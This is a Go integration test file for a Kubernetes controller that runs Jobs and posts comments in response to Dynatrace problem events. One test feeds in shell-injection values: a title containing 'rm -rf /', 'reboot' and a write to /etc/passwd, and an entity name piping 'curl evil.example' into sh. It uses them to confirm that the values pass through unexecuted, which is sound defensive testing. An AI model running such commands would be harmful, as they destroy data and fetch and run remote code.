@@ -1,0 +1,595 @@
+package controllers_test
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	. "github.com/onsi/gomega"
+	batchv1 "k8s.io/api/batch/v1"
+	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/api/meta"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	problemhookv1alpha1 "github.com/problemhook/problemhook/api/v1alpha1"
+	"github.com/problemhook/problemhook/controllers"
+	"github.com/problemhook/problemhook/internal/dynatrace"
+	"github.com/problemhook/problemhook/internal/dynatrace/dynatracetest"
+	"github.com/problemhook/problemhook/webhookserver"
+)
+
+// These tests drive ProblemEvents through a real API server, with a fake
+// Dynatrace. No Job controller or kubelet runs here: finishJob plays their
+// part, writing Pod and Job status as they would.
+
+const (
+	dtToken = "dt0c01.test-token"
+	pid     = "-6150203450926486413_1669823466223V2"
+)
+
+// fixture is one test's namespace: a Dynatrace target connected to a fake
+// Dynatrace environment, and a ProblemEvent controller for the namespace.
+type fixture struct {
+	t      *testing.T
+	g      *WithT
+	ctx    context.Context
+	ns     string
+	dt     *dynatracetest.Server
+	target *problemhookv1alpha1.NotificationTarget
+	stop   func()
+}
+
+func newFixture(t *testing.T, mutate ...func(*problemhookv1alpha1.NotificationTarget)) *fixture {
+	t.Helper()
+	f := &fixture{t: t, g: NewWithT(t), ctx: context.Background(), ns: newNamespace(t)}
+	f.dt = dynatracetest.NewServer(dynatracetest.ServerOptions{})
+	t.Cleanup(f.dt.Close)
+	f.dt.AddToken(dtToken, "problems.read", "problems.write")
+	f.create(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "webhook-auth"},
+		Data: map[string][]byte{"username": []byte("dynatrace"), "password": []byte("secret")}})
+	f.create(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "dynatrace-api"},
+		Data: map[string][]byte{"token": []byte(dtToken)}})
+	nt := basicTarget(f.ns)
+	nt.Spec.Dynatrace = &problemhookv1alpha1.DynatraceConnection{
+		URL:            f.dt.URL(),
+		TokenSecretRef: problemhookv1alpha1.SecretKeyReference{Name: "dynatrace-api"},
+	}
+	for _, m := range mutate {
+		m(nt)
+	}
+	f.create(nt)
+	f.target = nt
+	f.stop = startEventManager(t, f.ns)
+	return f
+}
+
+func (f *fixture) create(obj client.Object) {
+	f.t.Helper()
+	f.g.Expect(k8s.Create(f.ctx, obj)).To(Succeed())
+}
+
+// restart stops the event controller and starts a new one, as a crash or
+// a rollout would.
+func (f *fixture) restart() {
+	f.stop()
+	f.stop = startEventManager(f.t, f.ns)
+}
+
+// jobTemplate is a Job action's template: one container running argv.
+func jobTemplate(t *testing.T, mutate ...func(*batchv1.JobTemplateSpec)) runtime.RawExtension {
+	t.Helper()
+	tmpl := batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
+		RestartPolicy: corev1.RestartPolicyNever,
+		Containers: []corev1.Container{{
+			Name: "legacy", Image: "registry.example/legacy:1",
+			Command: []string{"/legacy"}, Args: []string{"--problem", "$(PROBLEM_DISPLAY_ID)", "--entity", "$(ENTITY_NAME)"},
+		}},
+	}}}}
+	for _, m := range mutate {
+		m(&tmpl)
+	}
+	raw, err := json.Marshal(tmpl)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return runtime.RawExtension{Raw: raw}
+}
+
+func jobAction(t *testing.T, name string, perEntity bool, parallelism int32) problemhookv1alpha1.Action {
+	return problemhookv1alpha1.Action{Name: name, Job: &problemhookv1alpha1.JobAction{
+		PerImpactedEntity: perEntity, Parallelism: &parallelism, Template: jobTemplate(t),
+	}}
+}
+
+func (f *fixture) route(name string, match problemhookv1alpha1.RouteMatch, actions ...problemhookv1alpha1.Action) *problemhookv1alpha1.IntegrationRoute {
+	f.t.Helper()
+	ir := &problemhookv1alpha1.IntegrationRoute{
+		ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: name},
+		Spec:       problemhookv1alpha1.IntegrationRouteSpec{Match: match, Actions: actions},
+	}
+	f.create(ir)
+	return ir
+}
+
+// event stores a ProblemEvent as the receiver would.
+func (f *fixture) event(spec problemhookv1alpha1.ProblemEventSpec) *problemhookv1alpha1.ProblemEvent {
+	f.t.Helper()
+	if spec.Source == "" {
+		spec.Source = problemhookv1alpha1.FormatDynatrace
+	}
+	if spec.ReceivedAt.IsZero() {
+		spec.ReceivedAt = metav1.Now()
+	}
+	ev := webhookserver.NewProblemEvent(f.target, &spec)
+	f.create(ev)
+	return ev
+}
+
+func (f *fixture) get(ev *problemhookv1alpha1.ProblemEvent) *problemhookv1alpha1.ProblemEvent {
+	f.t.Helper()
+	var got problemhookv1alpha1.ProblemEvent
+	f.g.Expect(k8s.Get(f.ctx, client.ObjectKeyFromObject(ev), &got)).To(Succeed())
+	return &got
+}
+
+// eventually waits until the event's status passes check.
+func (f *fixture) eventually(ev *problemhookv1alpha1.ProblemEvent, check func(g Gomega, ev *problemhookv1alpha1.ProblemEvent)) *problemhookv1alpha1.ProblemEvent {
+	f.t.Helper()
+	var got problemhookv1alpha1.ProblemEvent
+	f.g.Eventually(func(g Gomega) {
+		g.Expect(k8s.Get(f.ctx, client.ObjectKeyFromObject(ev), &got)).To(Succeed())
+		check(g, &got)
+	}).WithTimeout(20 * time.Second).WithPolling(50 * time.Millisecond).Should(Succeed())
+	return &got
+}
+
+func phase(p problemhookv1alpha1.EventPhase) func(Gomega, *problemhookv1alpha1.ProblemEvent) {
+	return func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) { g.Expect(ev.Status.Phase).To(Equal(p)) }
+}
+
+// jobs lists the Jobs in the namespace, by name.
+func (f *fixture) jobs(g Gomega) []batchv1.Job {
+	var jobs batchv1.JobList
+	g.Expect(k8s.List(f.ctx, &jobs, client.InNamespace(f.ns))).To(Succeed())
+	slices.SortFunc(jobs.Items, func(a, b batchv1.Job) int { return strings.Compare(a.Name, b.Name) })
+	return jobs.Items
+}
+
+// waitJobs waits until the namespace holds exactly n Jobs, and returns them.
+func (f *fixture) waitJobs(n int) []batchv1.Job {
+	f.t.Helper()
+	var jobs []batchv1.Job
+	f.g.Eventually(func(g Gomega) {
+		jobs = f.jobs(g)
+		g.Expect(jobs).To(HaveLen(n))
+	}).WithTimeout(20 * time.Second).WithPolling(50 * time.Millisecond).Should(Succeed())
+	return jobs
+}
+
+// finishJob ends a Job as the Job controller and the kubelet would: a Pod
+// whose container terminated with exitCode, and the Job's conditions.
+func (f *fixture) finishJob(job *batchv1.Job, exitCode int32) {
+	f.t.Helper()
+	start := metav1.NewTime(time.Now().Add(-time.Second).Truncate(time.Second))
+	end := metav1.NewTime(time.Now().Truncate(time.Second))
+	pod := &corev1.Pod{
+		ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: job.Name + "-pod", Labels: map[string]string{
+			"batch.kubernetes.io/controller-uid": string(job.UID), "batch.kubernetes.io/job-name": job.Name,
+		}},
+		Spec: job.Spec.Template.Spec,
+	}
+	f.create(pod)
+	podPhase, reason := corev1.PodSucceeded, "Completed"
+	if exitCode != 0 {
+		podPhase, reason = corev1.PodFailed, "Error"
+	}
+	pod.Status = corev1.PodStatus{Phase: podPhase, ContainerStatuses: []corev1.ContainerStatus{{
+		Name: pod.Spec.Containers[0].Name, Image: pod.Spec.Containers[0].Image, ImageID: "sha256:0",
+		State: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: exitCode, Reason: reason, StartedAt: start, FinishedAt: end}},
+	}}}
+	f.g.Expect(k8s.Status().Update(f.ctx, pod)).To(Succeed())
+
+	var current batchv1.Job
+	f.g.Expect(k8s.Get(f.ctx, client.ObjectKeyFromObject(job), &current)).To(Succeed())
+	current.Status.StartTime = &start
+	if exitCode == 0 {
+		current.Status.Succeeded = 1
+		current.Status.CompletionTime = &end
+		current.Status.Conditions = []batchv1.JobCondition{
+			{Type: batchv1.JobSuccessCriteriaMet, Status: corev1.ConditionTrue, Reason: "CompletionsReached", LastTransitionTime: end},
+			{Type: batchv1.JobComplete, Status: corev1.ConditionTrue, Reason: "CompletionsReached", LastTransitionTime: end},
+		}
+	} else {
+		current.Status.Failed = 1
+		current.Status.Conditions = []batchv1.JobCondition{
+			{Type: batchv1.JobFailureTarget, Status: corev1.ConditionTrue, Reason: "BackoffLimitExceeded", Message: "Job has reached the specified backoff limit", LastTransitionTime: end},
+			{Type: batchv1.JobFailed, Status: corev1.ConditionTrue, Reason: "BackoffLimitExceeded", Message: "Job has reached the specified backoff limit", LastTransitionTime: end},
+		}
+	}
+	f.g.Expect(k8s.Status().Update(f.ctx, &current)).To(Succeed())
+}
+
+func env(c corev1.Container) map[string]string {
+	out := map[string]string{}
+	for _, e := range c.Env {
+		out[e.Name] = e.Value
+	}
+	return out
+}
+
+// richProblem is a problem in the fake Dynatrace with two impacted hosts.
+func richProblem() dynatrace.Problem {
+	host := func(id, name string) dynatrace.EntityStub {
+		return dynatrace.EntityStub{EntityID: dynatrace.EntityID{ID: id, Type: "HOST"}, Name: name}
+	}
+	web01 := host("HOST-0000000000000001", "web01")
+	return dynatrace.Problem{
+		ProblemID: pid, DisplayID: "P-1234", Title: "CPU saturation", Status: "OPEN",
+		SeverityLevel: "RESOURCE_CONTENTION", ImpactLevel: "INFRASTRUCTURE",
+		StartTime: time.Now().Add(-time.Minute).UnixMilli(), EndTime: -1,
+		ImpactedEntities: []dynatrace.EntityStub{web01, host("HOST-0000000000000002", "web02")},
+		RootCauseEntity:  &web01,
+		ManagementZones:  []dynatrace.ManagementZone{{ID: "1", Name: "Shop"}},
+		EntityTags:       []dynatrace.EntityTag{{Context: "CONTEXTLESS", Key: "env", Value: "prod", StringRepresentation: "env:prod"}},
+		EvidenceDetails: &dynatrace.EvidenceDetails{TotalCount: 1, Details: []dynatrace.Evidence{{
+			EvidenceType: "METRIC", DisplayName: "CPU saturation", Entity: web01, RootCauseRelevant: true,
+		}}},
+	}
+}
+
+func TestMatchingRoutesRunJobsAndCommentOnce(t *testing.T) {
+	f := newFixture(t)
+	f.dt.AddProblem(richProblem())
+	open := []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateOpen}
+	f.route("legacy", problemhookv1alpha1.RouteMatch{States: open, Severities: []string{"RESOURCE_CONTENTION"}, ManagementZones: []string{"Shop"}},
+		jobAction(t, "incident", true, 5))
+	f.route("cel", problemhookv1alpha1.RouteMatch{Expression: `problem.title.contains("CPU") && problem.tags.exists(t, t == "env:prod")`},
+		jobAction(t, "audit", false, 1))
+	f.route("availability", problemhookv1alpha1.RouteMatch{Severities: []string{"AVAILABILITY"}}, jobAction(t, "page", false, 1))
+	f.route("memory", problemhookv1alpha1.RouteMatch{Expression: `problem.title.contains("memory")`}, jobAction(t, "page", false, 1))
+	f.route("resolved", problemhookv1alpha1.RouteMatch{States: []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateResolved}}, jobAction(t, "close", false, 1))
+
+	// The minimal payload of the old webhook: the rest comes from the API.
+	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})
+
+	jobs := f.waitJobs(3)
+	byRoute := map[string][]batchv1.Job{}
+	for _, j := range jobs {
+		byRoute[j.Labels[problemhookv1alpha1.LabelRoute]] = append(byRoute[j.Labels[problemhookv1alpha1.LabelRoute]], j)
+		f.g.Expect(j.Labels).To(HaveKeyWithValue(problemhookv1alpha1.LabelEvent, ev.Name))
+		f.g.Expect(metav1.IsControlledBy(&j, f.get(ev))).To(BeTrue(), "Job %s is owned by its event", j.Name)
+		f.g.Expect(len(j.Name)).To(BeNumerically("<=", 63))
+	}
+	f.g.Expect(byRoute).To(HaveLen(2))
+	f.g.Expect(byRoute["legacy"]).To(HaveLen(2))
+	f.g.Expect(byRoute["cel"]).To(HaveLen(1))
+	entities := []string{}
+	for _, j := range byRoute["legacy"] {
+		e := env(j.Spec.Template.Spec.Containers[0])
+		f.g.Expect(e).To(HaveKeyWithValue("PROBLEM_ID", pid))
+		f.g.Expect(e).To(HaveKeyWithValue("PROBLEM_DISPLAY_ID", "1234"))
+		f.g.Expect(e).To(HaveKeyWithValue("PROBLEM_TITLE", "CPU saturation"))
+		f.g.Expect(e).To(HaveKeyWithValue("PROBLEM_TAGS", "env:prod"))
+		f.g.Expect(e).To(HaveKeyWithValue("ENTITY_TYPE", "HOST"))
+		entities = append(entities, e["ENTITY_ID"]+"="+e["ENTITY_NAME"])
+		f.g.Expect(*j.Spec.BackoffLimit).To(Equal(int32(5)), "the route's default retry limit")
+	}
+	f.g.Expect(entities).To(ConsistOf("HOST-0000000000000001=web01", "HOST-0000000000000002=web02"))
+
+	got := f.eventually(ev, phase(problemhookv1alpha1.PhaseRunning))
+	f.g.Expect(got.Status.Details).NotTo(BeNil())
+	f.g.Expect(got.Status.Details.DisplayID).To(Equal("P-1234"))
+	f.g.Expect(got.Status.Details.RootCause).To(Equal("web01 (HOST-0000000000000001)"))
+	f.g.Expect(got.Status.Details.Evidence).To(Equal([]string{"METRIC: CPU saturation on web01 (root cause)"}))
+	f.g.Expect(meta.IsStatusConditionTrue(got.Status.Conditions, problemhookv1alpha1.ConditionEnriched)).To(BeTrue())
+	var legacy problemhookv1alpha1.IntegrationRoute
+	f.g.Expect(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "legacy"}, &legacy)).To(Succeed())
+	f.g.Expect(legacy.Status.LastMatchedEvent).To(Equal(ev.Name))
+
+	f.finishJob(&byRoute["legacy"][0], 0)
+	f.finishJob(&byRoute["legacy"][1], 3)
+	f.finishJob(&byRoute["cel"][0], 0)
+
+	got = f.eventually(ev, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
+		g.Expect(ev.Status.Phase).To(Equal(problemhookv1alpha1.PhaseFailed))
+		g.Expect(ev.Status.Comment).NotTo(BeNil())
+	})
+	f.g.Expect(got.Status.Actions).To(HaveLen(3))
+	for _, a := range got.Status.Actions {
+		f.g.Expect(a.Type).To(Equal("Job"))
+		f.g.Expect(a.ExitCode).NotTo(BeNil())
+		f.g.Expect(a.Attempts).To(Equal(int32(1)))
+		f.g.Expect(a.StartTime).NotTo(BeNil())
+		f.g.Expect(a.CompletionTime).NotTo(BeNil())
+		switch *a.ExitCode {
+		case 0:
+			f.g.Expect(a.State).To(Equal(problemhookv1alpha1.ActionSucceeded))
+		case 3:
+			f.g.Expect(a.State).To(Equal(problemhookv1alpha1.ActionFailed))
+			f.g.Expect(a.Message).To(ContainSubstring("BackoffLimitExceeded"))
+		}
+	}
+	ready := meta.FindStatusCondition(got.Status.Conditions, problemhookv1alpha1.ConditionReady)
+	f.g.Expect(ready.Status).To(Equal(metav1.ConditionTrue))
+	f.g.Expect(ready.Reason).To(Equal(problemhookv1alpha1.ReasonFailed))
+
+	want := "problemhook ran Job cel/audit: succeeded\n" +
+		"problemhook ran Job legacy/incident for 2 impacted entities: 1 succeeded, 1 failed (exit code 3)\n" +
+		"ProblemEvent " + f.ns + "/" + ev.Name
+	f.g.Expect(got.Status.Comment.Posted).To(BeTrue())
+	f.g.Expect(got.Status.Comment.Message).To(Equal(want))
+	comments := f.dt.Comments(pid)
+	f.g.Expect(comments).To(HaveLen(1))
+	f.g.Expect(comments[0].Content).To(Equal(want))
+	f.g.Expect(comments[0].Context).To(Equal(controllers.CommentContext))
+
+	// A restart finds everything done: no second Job, no second comment.
+	f.restart()
+	f.g.Consistently(func(g Gomega) {
+		g.Expect(f.jobs(g)).To(HaveLen(3))
+		g.Expect(f.dt.Comments(pid)).To(HaveLen(1))
+	}).WithTimeout(time.Second).Should(Succeed())
+}
+
+func TestRestartResumesWithoutSecondJobOrComment(t *testing.T) {
+	f := newFixture(t)
+	f.dt.AddProblem(richProblem())
+	f.route("legacy", problemhookv1alpha1.RouteMatch{}, jobAction(t, "incident", false, 1))
+	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})
+	job := f.waitJobs(1)[0]
+	f.eventually(ev, phase(problemhookv1alpha1.PhaseRunning))
+
+	// The manager dies while the Job runs; the Job ends meanwhile.
+	f.stop()
+	f.finishJob(&job, 0)
+	f.stop = startEventManager(t, f.ns)
+	f.eventually(ev, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
+		g.Expect(ev.Status.Phase).To(Equal(problemhookv1alpha1.PhaseSucceeded))
+		g.Expect(ev.Status.Comment).NotTo(BeNil())
+	})
+	f.g.Expect(f.dt.Comments(pid)).To(HaveLen(1))
+
+	// The manager dies after creating the Job and posting the comment but
+	// before it could record either: the status it stored is gone.
+	f.stop()
+	got := f.get(ev)
+	got.Status = problemhookv1alpha1.ProblemEventStatus{}
+	f.g.Expect(k8s.Status().Update(f.ctx, got)).To(Succeed())
+	f.stop = startEventManager(t, f.ns)
+	got = f.eventually(ev, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
+		g.Expect(ev.Status.Phase).To(Equal(problemhookv1alpha1.PhaseSucceeded))
+		g.Expect(ev.Status.Comment).NotTo(BeNil())
+	})
+	f.g.Expect(got.Status.Actions).To(HaveLen(1))
+	f.g.Expect(got.Status.Actions[0].Job).To(Equal(job.Name))
+	f.g.Expect(got.Status.Comment.Posted).To(BeTrue())
+	f.g.Expect(f.jobs(f.g)).To(HaveLen(1))
+	f.g.Expect(f.dt.Comments(pid)).To(HaveLen(1))
+}
+
+func TestFanOutHonoursParallelismAndEnrichmentFailureBlocksNothing(t *testing.T) {
+	f := newFixture(t)
+	// The fake Dynatrace does not know the problem: enrichment fails.
+	f.route("legacy", problemhookv1alpha1.RouteMatch{EntityTypes: []string{"HOST"}}, jobAction(t, "incident", true, 2))
+	var entities []problemhookv1alpha1.ImpactedEntity
+	for i := range 5 {
+		entities = append(entities, problemhookv1alpha1.ImpactedEntity{ID: fmt.Sprintf("HOST-%016d", i), Name: fmt.Sprintf("web%02d", i), Type: "HOST"})
+	}
+	entities = append(entities, problemhookv1alpha1.ImpactedEntity{ID: "SERVICE-0000000000000001", Name: "checkout", Type: "SERVICE"})
+	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: "unknown-problem", DisplayID: "77", State: problemhookv1alpha1.StateOpen,
+		Title: "Host unavailable", ImpactedEntities: entities})
+
+	got := f.eventually(ev, phase(problemhookv1alpha1.PhaseRunning))
+	enriched := meta.FindStatusCondition(got.Status.Conditions, problemhookv1alpha1.ConditionEnriched)
+	f.g.Expect(enriched).NotTo(BeNil())
+	f.g.Expect(enriched.Status).To(Equal(metav1.ConditionFalse))
+	f.g.Expect(enriched.Reason).To(Equal(problemhookv1alpha1.ReasonEnrichmentFailed))
+	f.g.Expect(enriched.Message).To(ContainSubstring("404"))
+	f.g.Expect(got.Status.Actions).To(HaveLen(5), "one run per HOST; the SERVICE does not pass entityTypes")
+
+	finished := map[string]bool{}
+	for len(finished) < 5 {
+		jobs := f.waitJobs(min(len(finished)+2, 5))
+		f.g.Consistently(func(g Gomega) {
+			g.Expect(len(f.jobs(g))).To(Equal(min(len(finished)+2, 5)), "never more than parallelism running")
+		}).WithTimeout(300 * time.Millisecond).Should(Succeed())
+		for i := range jobs {
+			if !finished[jobs[i].Name] {
+				finished[jobs[i].Name] = true
+				f.finishJob(&jobs[i], 0)
+				break
+			}
+		}
+	}
+	got = f.eventually(ev, phase(problemhookv1alpha1.PhaseSucceeded))
+	for _, a := range got.Status.Actions {
+		f.g.Expect(a.State).To(Equal(problemhookv1alpha1.ActionSucceeded))
+		f.g.Expect(a.Entity).To(HavePrefix("HOST-"))
+	}
+	// Commenting on a problem Dynatrace does not know fails for good: recorded, not retried.
+	f.g.Expect(got.Status.Comment).NotTo(BeNil())
+	f.g.Expect(got.Status.Comment.Posted).To(BeFalse())
+	f.g.Expect(got.Status.Comment.Message).To(ContainSubstring("404"))
+}
+
+func TestDynatraceRateLimitsAndServerErrorsAreRetried(t *testing.T) {
+	f := newFixture(t)
+	f.dt.AddProblem(richProblem())
+	f.dt.FailNext("GET", "", 1, 429, "1")
+	f.dt.FailNext("GET", "", 1, 503, "")
+	f.dt.FailNext("POST", "/comments", 2, 500, "")
+	f.route("legacy", problemhookv1alpha1.RouteMatch{}, jobAction(t, "incident", false, 1))
+	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})
+	f.finishJob(&f.waitJobs(1)[0], 0)
+	got := f.eventually(ev, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
+		g.Expect(ev.Status.Comment).NotTo(BeNil())
+	})
+	f.g.Expect(meta.IsStatusConditionTrue(got.Status.Conditions, problemhookv1alpha1.ConditionEnriched)).To(BeTrue())
+	f.g.Expect(got.Status.Comment.Posted).To(BeTrue())
+	f.g.Expect(f.dt.Comments(pid)).To(HaveLen(1))
+	var posts int
+	for _, r := range f.dt.Requests() {
+		if r.Method == http.MethodPost {
+			posts++
+		}
+	}
+	f.g.Expect(posts).To(Equal(3), "two refused with 500, then one stored")
+}
+
+func TestResolvedStopsRunningJobs(t *testing.T) {
+	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
+	f.route("legacy", problemhookv1alpha1.RouteMatch{States: []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateOpen}},
+		jobAction(t, "incident", true, 1))
+	keep := jobAction(t, "audit", false, 1)
+	keep.Job.StopOnResolve = new(false)
+	f.route("keep", problemhookv1alpha1.RouteMatch{States: []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateOpen}}, keep)
+	spec := problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen, ImpactedEntities: []problemhookv1alpha1.ImpactedEntity{
+		{ID: "HOST-1", Name: "web01", Type: "HOST"}, {ID: "HOST-2", Name: "web02", Type: "HOST"},
+	}}
+	open := f.event(spec)
+	f.waitJobs(2) // legacy's first entity (parallelism 1) and keep's Job
+	f.eventually(open, phase(problemhookv1alpha1.PhaseRunning))
+
+	spec.State = problemhookv1alpha1.StateResolved
+	resolved := f.event(spec)
+	got := f.eventually(open, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
+		for _, a := range ev.Status.Actions {
+			if a.Route == "legacy" {
+				g.Expect(a.State).To(Equal(problemhookv1alpha1.ActionStopped))
+			}
+		}
+	})
+	var stoppedRunning, neverStarted int
+	for _, a := range got.Status.Actions {
+		switch {
+		case a.Route == "keep":
+			f.g.Expect(a.State).To(Equal(problemhookv1alpha1.ActionRunning), "stopOnResolve: false keeps it running")
+		case a.Job != "":
+			stoppedRunning++
+			f.g.Expect(a.Message).To(Equal("Stopped: the problem resolved (ProblemEvent " + resolved.Name + "); Job " + a.Job + " deleted"))
+		default:
+			neverStarted++
+			f.g.Expect(a.Message).To(Equal("Not started: the problem resolved (ProblemEvent " + resolved.Name + ")"))
+		}
+	}
+	f.g.Expect([]int{stoppedRunning, neverStarted}).To(Equal([]int{1, 1}))
+	jobs := f.waitJobs(1)
+	f.g.Expect(jobs[0].Labels).To(HaveKeyWithValue(problemhookv1alpha1.LabelRoute, "keep"))
+	f.eventually(resolved, phase(problemhookv1alpha1.PhaseSkipped))
+}
+
+func TestRouteChangeDoesNotRerunFinishedActions(t *testing.T) {
+	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
+	ir := f.route("legacy", problemhookv1alpha1.RouteMatch{}, jobAction(t, "incident", false, 1))
+	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})
+	f.finishJob(&f.waitJobs(1)[0], 0)
+	before := f.eventually(ev, phase(problemhookv1alpha1.PhaseSucceeded))
+
+	// The route gets a new template and a second action; the manager restarts.
+	f.g.Expect(k8s.Get(f.ctx, client.ObjectKeyFromObject(ir), ir)).To(Succeed())
+	ir.Spec.Actions[0].Job.Template = jobTemplate(t, func(j *batchv1.JobTemplateSpec) {
+		j.Spec.Template.Spec.Containers[0].Image = "registry.example/legacy:2"
+	})
+	ir.Spec.Actions = append(ir.Spec.Actions, jobAction(t, "another", false, 1))
+	f.g.Expect(k8s.Update(f.ctx, ir)).To(Succeed())
+	f.restart()
+	f.g.Consistently(func(g Gomega) {
+		g.Expect(f.jobs(g)).To(HaveLen(1))
+		var got problemhookv1alpha1.ProblemEvent
+		g.Expect(k8s.Get(f.ctx, client.ObjectKeyFromObject(ev), &got)).To(Succeed())
+		g.Expect(got.Status.Actions).To(Equal(before.Status.Actions))
+	}).WithTimeout(2 * time.Second).Should(Succeed())
+}
+
+func TestProblemDataReachesJobsByteForByte(t *testing.T) {
+	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
+	action := jobAction(t, "incident", true, 1)
+	action.Job.Template = jobTemplate(t, func(j *batchv1.JobTemplateSpec) {
+		j.Spec.Template.Spec.Containers[0].Env = []corev1.EnvVar{{Name: "MODE", Value: "incident"}}
+	})
+	f.route("legacy", problemhookv1alpha1.RouteMatch{}, action)
+	title := "CPU $(rm -rf /); `reboot` && echo \"quoted\" 'single' | tee /etc/passwd\nsecond line \\ end"
+	name := "web01\"; curl evil.example | sh; echo '"
+	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen, Title: title,
+		ImpactedEntities: []problemhookv1alpha1.ImpactedEntity{{ID: "HOST-1", Name: name, Type: "HOST"}}})
+
+	job := f.waitJobs(1)[0]
+	c := job.Spec.Template.Spec.Containers[0]
+	f.g.Expect(c.Command).To(Equal([]string{"/legacy"}), "no shell is put in front of the command")
+	f.g.Expect(c.Args).To(Equal([]string{"--problem", "$(PROBLEM_DISPLAY_ID)", "--entity", "$(ENTITY_NAME)"}), "the kubelet, not problemhook, expands the arguments")
+	e := env(c)
+	f.g.Expect(e["PROBLEM_TITLE"]).To(Equal(title))
+	f.g.Expect(e["ENTITY_NAME"]).To(Equal(name))
+	f.g.Expect(e["PROBLEM_EVENT"]).To(Equal(ev.Name))
+	f.g.Expect(e["MODE"]).To(Equal("incident"))
+	f.g.Expect(c.Env[len(c.Env)-1].Name).To(Equal("MODE"), "the template's own variables come after problemhook's")
+	var problem struct {
+		Title            string `json:"title"`
+		ImpactedEntities []struct {
+			Name string `json:"name"`
+		} `json:"impactedEntities"`
+	}
+	f.g.Expect(json.Unmarshal([]byte(e["PROBLEM_JSON"]), &problem)).To(Succeed())
+	f.g.Expect(problem.Title).To(Equal(title))
+	f.g.Expect(problem.ImpactedEntities[0].Name).To(Equal(name))
+}
+
+func TestActionsOfARouteRunInOrder(t *testing.T) {
+	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
+	sms := problemhookv1alpha1.Action{Name: "sms", Twilio: &problemhookv1alpha1.TwilioAction{
+		CredentialsSecretRef: problemhookv1alpha1.LocalObjectReference{Name: "twilio"}, From: "+18652699000", To: []string{"+4917000000"}, Body: "{{.Title}}",
+	}}
+	f.route("legacy", problemhookv1alpha1.RouteMatch{}, jobAction(t, "first", false, 1), jobAction(t, "second", false, 1), sms)
+	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})
+
+	first := f.waitJobs(1)[0]
+	f.g.Expect(first.Labels).To(HaveKeyWithValue(problemhookv1alpha1.LabelAction, "first"))
+	f.g.Consistently(func(g Gomega) { g.Expect(f.jobs(g)).To(HaveLen(1)) }).WithTimeout(300 * time.Millisecond).Should(Succeed())
+	f.finishJob(&first, 1)
+	jobs := f.waitJobs(2)
+	second := jobs[slices.IndexFunc(jobs, func(j batchv1.Job) bool { return j.Labels[problemhookv1alpha1.LabelAction] == "second" })]
+	f.finishJob(&second, 0)
+	got := f.eventually(ev, phase(problemhookv1alpha1.PhaseFailed))
+	f.g.Expect(got.Status.Actions).To(HaveLen(3))
+	f.g.Expect(got.Status.Actions[2]).To(And(
+		HaveField("Type", problemhookv1alpha1.ActionTypeTwilio),
+		HaveField("State", problemhookv1alpha1.ActionFailed),
+		HaveField("Message", "Twilio actions are not run by this version of problemhook"),
+	))
+}
+
+func TestTestNotifications(t *testing.T) {
+	for _, tc := range []struct {
+		policy    problemhookv1alpha1.TestNotificationPolicy
+		wantPhase problemhookv1alpha1.EventPhase
+		wantJobs  []string
+	}{
+		{problemhookv1alpha1.TestNotificationsRecord, problemhookv1alpha1.PhaseSkipped, nil},
+		{problemhookv1alpha1.TestNotificationsRun, problemhookv1alpha1.PhaseRunning, []string{"tests"}},
+	} {
+		t.Run(string(tc.policy), func(t *testing.T) {
+			f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.TestNotifications = tc.policy })
+			f.route("real", problemhookv1alpha1.RouteMatch{}, jobAction(t, "incident", false, 1))
+			tests := f.route("tests", problemhookv1alpha1.RouteMatch{}, jobAction(t, "incident", false, 1))
+			tests.Spec.IncludeTestNotifications = true
+			f.g.Expect(k8s.Update(f.ctx, tests)).To(Succeed())
+			ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: "99999", DisplayID: "999", State: problemhookv1alpha1.StateOpen, Test: true})
+			f.eventually(ev, phase(tc.wantPhase))
+			f.g.Consistently(func(g Gomega) {
+				var routes []string
+				for _, j := range f.jobs(g) {
